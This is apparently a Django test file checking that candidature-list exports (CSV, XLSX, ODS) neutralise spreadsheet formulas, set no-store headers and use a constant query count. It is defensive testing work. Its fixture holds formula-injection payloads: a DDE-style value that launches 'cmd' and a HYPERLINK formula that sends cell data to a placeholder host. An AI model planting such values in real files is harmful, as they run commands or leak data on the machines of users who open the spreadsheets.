"""Exports of the candidature lists: formulas neutralised in every format, no-store, constant query count."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from odf.opendocument import load
from odf.table import TableCell

from classes_mobiles.tests.factories import CampagneFactory, EcoleFactory, PeriodeFactory, UtilisateurFactory

from .factories import CandidatureFactory, SessionCommissionFactory
from .masse import creer_candidatures

pytestmark = pytest.mark.django_db

PIEGES = {
    "titre": '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")',
    "ecole": "@SOMME(1+1)*cmd|' /C calc'!A0",
    "nom": "-2+3",
    "prenom": "+33 6",
}


@pytest.fixture
def piege():
    """A candidature whose texts would be formulas in a spreadsheet, and a reader of every role allowed to export."""
    ecole = EcoleFactory(nom=PIEGES["ecole"])
    enseignant = UtilisateurFactory(ecole=ecole, nom=PIEGES["nom"], prenom=PIEGES["prenom"])
    return CandidatureFactory(enseignant=enseignant, avis_donne=True, titre=PIEGES["titre"], nb_eleves=23)


def telecharger(client, user, format_export):
    client.force_login(user)
    reponse = client.get(reverse("candidatures:liste"), {"export": format_export})
    assert reponse.status_code == 200
    return reponse


def ligne_du_piege(lignes):
    return next(ligne for ligne in lignes if ligne[6] in (PIEGES["titre"], "'" + PIEGES["titre"]))


def test_csv_streame_et_neutralise(client, piege):
    reponse = telecharger(client, UtilisateurFactory(commission=True), "csv")
    assert isinstance(reponse, StreamingHttpResponse)
    texte = b"".join(reponse.streaming_content).decode("utf-8")
    assert texte.startswith("\ufeffCampagne;")
    ligne = ligne_du_piege(list(csv.reader(io.StringIO(texte[1:]), delimiter=";")))
    assert ligne[2] == "'" + PIEGES["ecole"]
    assert ligne[5] == "'" + f"{PIEGES['prenom']} {PIEGES['nom']}"
    assert ligne[6] == "'" + PIEGES["titre"]
    assert ligne[8] == "23"


def test_xlsx_sans_formule(client, piege):
    reponse = telecharger(client, UtilisateurFactory(commission=True), "xlsx")
    feuille = openpyxl.load_workbook(io.BytesIO(reponse.content)).active
    assert [c for ligne in feuille.iter_rows() for c in ligne if c.data_type == "f"] == []
    ligne = ligne_du_piege(list(feuille.iter_rows(values_only=True)))
    assert ligne[2] == "'" + PIEGES["ecole"] and ligne[6] == "'" + PIEGES["titre"]
    assert ligne[8] == 23  # a number stays a number


def test_ods_sans_formule(client, piege):
    reponse = telecharger(client, UtilisateurFactory(dasen=True), "ods")
    document = load(io.BytesIO(reponse.content))
    cellules = document.spreadsheet.getElementsByType(TableCell)
    assert [c for c in cellules if c.getAttribute("formula")] == []
    textes = [str(c) for c in cellules]
    assert "'" + PIEGES["titre"] in textes and PIEGES["titre"] not in textes
    assert "'" + PIEGES["ecole"] in textes
    nombres = [c.getAttribute("value") for c in cellules if c.getAttribute("valuetype") == "float"]
    assert "23" in nombres
    with zipfile.ZipFile(io.BytesIO(reponse.content)) as archive:
        assert "of:=" not in archive.read("content.xml").decode()


@pytest.mark.parametrize("role", ["ien", "erun", "cpd", "commission", "dasen", "admin"])
@pytest.mark.parametrize("format_export", ["csv", "xlsx", "ods"])
def test_chaque_role_exporte_sans_mise_en_cache(client, piege, role, format_export):
    circonscription = piege.ecole.circonscription
    territoire = {"circonscription": circonscription} if role in ("ien", "erun") else {}
    reponse = telecharger(client, UtilisateurFactory(**{role: True}, **territoire), format_export)
    assert reponse["Content-Disposition"].startswith('attachment; filename="candidatures-')
    assert "no-store" in reponse["Cache-Control"] and "private" in reponse["Cache-Control"]
    contenu = b"".join(reponse.streaming_content) if reponse.streaming else reponse.content
    assert len(contenu) > 100


def test_export_en_nombre_constant_de_requetes(client):
    campagne = CampagneFactory()
    periodes = [PeriodeFactory(campagne=campagne, numero=n) for n in range(1, 4)]
    ecoles = [EcoleFactory() for _ in range(6)]
    session = SessionCommissionFactory(campagne=campagne)
    client.force_login(UtilisateurFactory(commission=True))

    def requetes():
        with CaptureQueriesContext(connection) as contexte:
            reponse = client.get(reverse("candidatures:liste"), {"export": "csv"})
            lignes = b"".join(reponse.streaming_content).decode().splitlines()
        return len(contexte), len(lignes)

    creer_candidatures(campagne, ecoles, periodes, 5, session=session)
    peu, nb_lignes = requetes()
    assert nb_lignes == 6
    creer_candidatures(campagne, ecoles, periodes, 40, session=session, debut=5)
    beaucoup, nb_lignes = requetes()
    assert nb_lignes == 46
    assert beaucoup == peu


def test_points_d_attention_dans_l_export(client):
    """The flags of the export (computed by subquery over the exported rows) are those of the pages."""
    ecole = EcoleFactory()
    for annee in ("2022-2023", "2023-2024"):
        CandidatureFactory(
            campagne=CampagneFactory(annee_scolaire=annee, active=False), acceptee=True, enseignant__ecole=ecole
        )
    campagne = CampagneFactory()
    suivie = CandidatureFactory(campagne=campagne, enseignant__ecole=ecole, avis_donne=True, titre="Deuxième fois")
    CandidatureFactory(campagne=campagne, avis_donne=True, titre="Première fois", stockage_securise=False)
    reponse = telecharger(client, UtilisateurFactory(commission=True), "csv")
    lignes = list(csv.reader(io.StringIO(b"".join(reponse.streaming_content).decode()[1:]), delimiter=";"))
    drapeaux = {ligne[6]: ligne[14] for ligne in lignes[1:]}
    assert drapeaux["Deuxième fois"] == "L'école a déjà participé à 2 campagnes (deux au plus)."
    assert drapeaux["Première fois"] == "Pas de lieu de stockage sécurisé avec alimentation électrique."
    assert suivie.ecole == ecole
